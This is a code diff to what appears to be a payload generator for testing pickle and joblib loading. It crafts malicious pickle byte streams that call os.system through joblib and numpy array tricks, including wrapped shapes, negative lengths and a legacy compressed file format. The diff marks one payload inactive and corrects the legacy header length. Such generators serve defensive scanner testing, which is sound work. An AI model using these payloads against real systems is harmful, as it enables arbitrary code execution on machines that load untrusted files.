@@ -360,7 +360,7 @@ class Workshop:
         attack = call(name("os", "system"), self.command)
         wraps = b"\x8a\x05\x00\x00\x00\x00\x01"
         wrapped = self.wrapper(shape=wraps + wraps + b"\x86", dtype=self.dtype("u1"))
-        yield "joblib, shape that wraps round", Payload(proto(4, wrapped)[:-1] + b"\x010" + attack + STOP)
+        yield "joblib, shape that wraps round", Payload(proto(4, wrapped)[:-1] + b"\x010" + attack + STOP, live=False)
         leftover = b"\x95" + struct.pack("<Q", len(wrapped + attack) + 1) + wrapped + attack + STOP
         yield "joblib, code in the array's frame", Payload(b"\x80\x04" + leftover + b"\x01x\x05" + bytes(9), live=False)
         yield "joblib, negative length", Payload(proto(4, self.wrapper(shape=b"J\xff\xff\xff\xff\x85")), live=False)
@@ -394,7 +394,10 @@ class Workshop:
                 f"joblib, {kind}",
                 Payload(proto(4, name("joblib.numpy_pickle", kind), b")\x81", old, b"b"), live=False),
             )
-        yield "joblib, file before 0.10", Payload(b"ZF0x10               " + zlib.compress(pickle.dumps(evil)))
+        yield (
+            "joblib, file before 0.10",
+            Payload(b"ZF" + hex(len(pickle.dumps(evil))).ljust(19).encode() + zlib.compress(pickle.dumps(evil))),
+        )
 
     def dtype(self, kind: str) -> bytes:
         """Return a dtype, made as numpy does but without its state."""
